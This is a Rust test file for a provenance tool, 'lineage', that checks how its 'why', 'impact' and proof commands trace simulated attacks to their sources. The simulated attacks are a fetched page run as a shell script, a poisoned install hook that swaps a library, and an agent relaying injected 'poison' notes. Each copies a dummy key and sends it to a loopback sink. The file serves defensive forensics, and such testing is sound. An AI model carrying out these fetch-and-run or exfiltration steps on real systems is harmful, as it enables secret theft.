//! Attacks as they happen, and what `lineage why` and `lineage impact` say of them: all that is true, and nothing
//! else. What is true the test itself knows: it is the hosts that are talked to, and wrote the files.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;
use std::process::Command;
use std::thread::{self, JoinHandle};

use lineage_tests::connected::Connected;
use lineage_tests::programs::{ACTOR, LINEAGE};
use lineage_tests::recorder::{Recorded, Recorder};
use serde_json::{Value, json};

/// A host outside that answers one connection with this text, and takes what comes.
struct Host {
    address: String,
    server: JoinHandle<String>,
}

impl Host {
    fn new(page: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("loopback");
        let address = listener.local_addr().expect("bound").to_string();
        let server = thread::spawn(move || {
            let (mut peer, _) = listener.accept().expect("a connection");
            peer.write_all(page.as_bytes()).expect("taken");
            peer.shutdown(std::net::Shutdown::Write).expect("open");
            let mut taken = String::new();
            peer.read_to_string(&mut taken).expect("text");
            taken
        });
        Self { address, server }
    }

    fn taken(self) -> String {
        self.server.join().expect("it answered")
    }
}

/// The `seq` of the record of what was sent to an address.
fn sent(run: &Recorded, address: &str) -> i64 {
    message(run, "net.send", address)
}

fn received(run: &Recorded, address: &str) -> i64 {
    message(run, "net.receive", address)
}

fn message(run: &Recorded, kind: &str, address: &str) -> i64 {
    let (host, port) = address.rsplit_once(':').expect("an address");
    let port: i64 = port.parse().expect("a port");
    let peer = json!({ "peer_addr": host, "peer_port": port });
    run.rows.only(kind, &peer).int("seq")
}

fn id(path: &Path) -> (i64, i64) {
    let file = fs::metadata(path).expect("it is there");
    (file.dev().cast_signed(), file.ino().cast_signed())
}

/// Those of the files in the recording's directory that are among the causes, by name.
fn own(run: &Recorded, causes: &Connected) -> BTreeSet<String> {
    let files = causes.files();
    let entries = fs::read_dir(run.recorder.path("")).expect("readable");
    let entries = entries.map(|entry| entry.expect("readable").path());
    (entries.filter(|path| path.is_file() && files.contains(&id(path))))
        .map(|path| {
            path.file_name()
                .expect("named")
                .to_string_lossy()
                .into_owned()
        })
        .collect()
}

fn names(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|name| (*name).to_owned()).collect()
}

/// An agent reads its task, fetches a page, and does what that says: runs it as a script, which reads a key and
/// sends it away. Beside it another process fetches another page and writes it down, and the agent does other things
/// before and after.
#[test]
fn what_is_sent_away_is_traced_to_the_page_that_said_so() {
    let recorder = Recorder::new();
    let actor = ACTOR.display();
    let place = |name: &str| recorder.path(name).display().to_string();
    let sink = Host::new(String::new());
    let page = page(&recorder, &sink.address);
    let bytes = page.len();
    let page = Host::new(page);
    let other = Host::new("weather".to_owned());
    for (name, text) in [("key", "secret"), ("task", "do it!"), ("plan", "later!")] {
        fs::write(recorder.path(name), text).expect("writable");
    }
    let words = format!(
        "spawn @x {actor} actor open @d {diary} O_WRONLY|O_CREAT open @p {plan} O_RDONLY copy @d @p 6 ; \
         spawn @y {actor} actor socket @c inet stream connect @c {other} open @o {weather} O_WRONLY|O_CREAT copy @o @c 7 ; \
         wait @x wait @y \
         open @t {task} O_RDONLY read @t 6 close @t \
         socket @c inet stream connect @c {page} open @o {script} O_WRONLY|O_CREAT copy @o @c {bytes} close @o close @c \
         spawn @s /bin/sh sh {script} ; wait @s \
         open @p {plan} O_RDONLY read @p 6 open @e {end} O_WRONLY|O_CREAT write @e 3",
        diary = place("diary"),
        other = other.address,
        weather = place("weather"),
        task = place("task"),
        page = page.address,
        script = place("script"),
        plan = place("plan"),
        end = place("end"),
    );
    let (page_at, sink_at, other_at) = (
        page.address.clone(),
        sink.address.clone(),
        other.address.clone(),
    );
    let run = recorder.actor(words.split_whitespace());
    assert_eq!(run.output.status.code(), Some(0), "{}", run.stderr());
    assert_eq!(sink.taken(), "secret");
    drop((page.taken(), other.taken()));

    let causes = Connected::why(&run.evidence, sent(&run, &sink_at));
    assert_eq!(
        own(&run, &causes),
        names(&["key", "loot", "script", "task"])
    );
    assert_eq!(causes.peers(), BTreeSet::from([page_at.clone()]));

    let effects = Connected::impact(&run.evidence, received(&run, &page_at));
    assert!(effects.records().contains(&sent(&run, &sink_at)));
    let touched = own(&run, &effects);
    assert_eq!(touched, names(&["end", "loot", "script"]));

    // Whoever asks of the opening or the close asks of what went through it.
    let key = json!({ "path": run.recorder.path("key").display().to_string() });
    let of_key = ["file.open", "file.close"].map(|kind| run.rows.only(kind, &key).int("seq"));
    let of_page = ["net.connect", "net.close"].map(|kind| message(&run, kind, &page_at));
    for seq in [of_key, of_page].concat() {
        let effects = Connected::impact(&run.evidence, seq);
        assert!(effects.records().contains(&sent(&run, &sink_at)), "{seq}");
    }

    let effects = Connected::impact(&run.evidence, received(&run, &other_at));
    assert!(!effects.records().contains(&sent(&run, &sink_at)));
    assert_eq!(own(&run, &effects), names(&["weather"]));

    let told = [script_written(&run), received(&run, &page_at)];
    let proven = proven(&run, sent(&run, &sink_at));
    assert!(told.iter().all(|it| proven.contains(it)), "{proven:?}");
    assert!(!proven.contains(&received(&run, &other_at)), "{proven:?}");
}

/// The agent wrote what ran, and started it: it is a cause by both.
fn script_written(run: &Recorded) -> i64 {
    let path = run.recorder.path("script").display().to_string();
    run.rows
        .only("file.write", &json!({ "path": path }))
        .int("seq")
}

/// The records that a proof of an event proves to whoever has nothing but that.
fn proven(run: &Recorded, seq: i64) -> BTreeSet<i64> {
    let proof = run.recorder.path("proof");
    let mut prove = Command::new(&*LINEAGE);
    prove.arg("prove").arg(&run.evidence.directory);
    prove.args([&seq.to_string(), "--data", "-o"]).arg(&proof);
    let output = prove.output().expect("the lineage binary runs");
    assert!(output.status.success(), "{output:?}");
    let mut verify = Command::new(&*LINEAGE);
    verify.arg("verify-proof").arg(&proof);
    verify.args(["--json", "--trust", &run.evidence.trust()]);
    let output = verify.output().expect("the lineage binary runs");
    assert!(output.status.success(), "{output:?}");
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let records = report["proven"]["records"].as_array().expect("a list");
    let seqs = records.iter().map(|record| record["seq"].as_i64());
    seqs.map(|seq| seq.expect("a number")).collect()
}

/// A page with a script in it: one program takes the key, another one sends it away.
fn page(recorder: &Recorder, sink: &str) -> String {
    let actor = ACTOR.display();
    let place = |name: &str| recorder.path(name).display().to_string();
    let (key, loot) = (place("key"), place("loot"));
    format!(
        "{actor} open @k {key} O_RDONLY open @o {loot} 'O_WRONLY|O_CREAT' copy @o @k 6\n\
         {actor} socket @s inet stream connect @s {sink} open @i {loot} O_RDONLY copy @s @i 6\n"
    )
}

/// A package comes from a registry, and its install hook puts a library in the place of another one. A program that
/// uses that later sends a key away. Another package comes from elsewhere and is only kept.
#[test]
fn what_a_library_does_is_traced_to_the_package_that_brought_it() {
    let recorder = Recorder::new();
    let actor = ACTOR.display();
    let place = |name: &str| recorder.path(name).display().to_string();
    let sink = Host::new(String::new());
    let (library, new) = (place("library"), place("library.new"));
    let hook = format!(
        "{actor} open @p {package} O_RDONLY open @o {new} 'O_WRONLY|O_CREAT' copy @o @p 6\n\
         {actor} rename {new} {library}\n",
        package = place("package"),
    );
    let bytes = hook.len();
    let (registry, other) = (Host::new(hook), Host::new("benign".to_owned()));
    for (name, text) in [
        ("key", "secret"),
        ("package", "packed"),
        ("library", "before"),
    ] {
        fs::write(recorder.path(name), text).expect("writable");
    }
    let fetch = |from: &str, to: &str, bytes: usize| {
        format!(
            "spawn @f {actor} actor socket @c inet stream connect @c {from} \
             open @o {} O_WRONLY|O_CREAT copy @o @c {bytes} ; wait @f ",
            place(to)
        )
    };
    let words = fetch(&registry.address, "hook", bytes)
        + &fetch(&other.address, "kept", 6)
        + &format!(
            "spawn @h /bin/sh sh {hook} ; wait @h \
             spawn @u {actor} actor open @l {library} O_RDONLY read @l 6 open @k {key} O_RDONLY \
               socket @s inet stream connect @s {sink} copy @s @k 6 ; wait @u",
            hook = place("hook"),
            key = place("key"),
            sink = sink.address,
        );
    let [registry_at, sink_at, other_at] =
        [&registry, &sink, &other].map(|host| host.address.clone());
    let run = recorder.actor(words.split_whitespace());
    assert_eq!(sink.taken(), "secret");
    drop((registry.taken(), other.taken()));

    let theft = sent(&run, &sink_at);
    let causes = Connected::why(&run.evidence, theft);
    let expected = names(&["hook", "key", "library", "package"]);
    assert_eq!(own(&run, &causes), expected);
    assert_eq!(causes.peers(), BTreeSet::from([registry_at.clone()]));

    let effects = Connected::impact(&run.evidence, received(&run, &registry_at));
    assert!(effects.records().contains(&theft));
    assert_eq!(own(&run, &effects), names(&["hook", "library"]));
    let effects = Connected::impact(&run.evidence, received(&run, &other_at));
    assert_eq!(own(&run, &effects), names(&["kept"]));
}

/// One agent writes down what a page says. Later, in another recording of the same log, a second one reads these
/// notes and sends something away; a third one does so, too, and has not read them.
#[test]
fn what_a_second_agent_does_is_traced_to_what_the_first_had_read() {
    let recorder = Recorder::new().option("--append");
    let place = |name: &str| recorder.path(name).display().to_string();
    let page = Host::new("poison".to_owned());
    let (sink, elsewhere) = (Host::new(String::new()), Host::new(String::new()));
    for name in ["task", "weather"] {
        fs::write(recorder.path(name), "things").expect("writable");
    }
    let record = |words: String| {
        let words: Vec<&str> = words.split_whitespace().collect();
        let mut command = recorder.command();
        let output = command.arg("--").arg(&*ACTOR).args(words).output();
        let output = output.expect("the lineage binary runs");
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{said}");
        output
    };
    let notes = place("notes");
    record(format!(
        "socket @c inet stream connect @c {} open @o {notes} O_WRONLY|O_CREAT copy @o @c 6",
        page.address
    ));
    record(format!(
        "open @t {} O_RDONLY read @t 6 open @n {notes} O_RDONLY socket @s inet stream connect @s {} copy @s @n 6",
        place("task"),
        sink.address
    ));
    let output = record(format!(
        "open @w {} O_RDONLY socket @s inet stream connect @s {} copy @s @w 6",
        place("weather"),
        elsewhere.address
    ));
    let [page_at, sink_at, elsewhere_at] =
        [&page, &sink, &elsewhere].map(|host| host.address.clone());
    assert_eq!(
        (sink.taken(), elsewhere.taken()),
        ("poison".to_owned(), "things".to_owned())
    );
    drop(page.taken());
    let run = recorder.finish(output);

    let causes = Connected::why(&run.evidence, sent(&run, &sink_at));
    assert_eq!(own(&run, &causes), names(&["notes", "task"]));
    assert_eq!(causes.peers(), BTreeSet::from([page_at.clone()]));
    let causes = Connected::why(&run.evidence, sent(&run, &elsewhere_at));
    assert_eq!(own(&run, &causes), names(&["weather"]));
    assert_eq!(causes.peers(), BTreeSet::new());

    let effects = Connected::impact(&run.evidence, received(&run, &page_at));
    assert!(effects.records().contains(&sent(&run, &sink_at)));
    assert!(!effects.records().contains(&sent(&run, &elsewhere_at)));
}
